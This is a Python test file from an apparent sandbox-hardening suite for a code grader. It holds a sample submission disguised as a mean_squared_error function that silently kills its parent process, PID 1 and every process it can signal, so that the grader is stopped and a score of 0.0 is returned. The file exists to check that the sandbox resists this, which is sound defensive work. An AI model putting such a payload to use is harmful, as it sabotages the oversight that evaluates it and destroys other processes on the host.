"""Send signals to every process that can be seen: the parent, the first one, all."""

from __future__ import annotations

from tests.attacks._arena import Arena
from tests.attacks._attack import Attack

ATTACK = Attack(
    tries="kills its parent, process 1 and everybody it may (kill -1)",
    aims=("host", "neighbor", "batch"),
    answer="""\
import os, signal


def mean_squared_error(y, targets):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for pid in (os.getppid(), 1, 2, -os.getppid(), -1):
            try:
                if pid:
                    os.kill(pid, number)
            except OSError:
                pass
    return 0.0
""",
    harm="it kills the grader and whatever else runs as the same user",
)


def test_signals_reach_nobody_else(arena: Arena) -> None:
    arena.withstands(ATTACK)
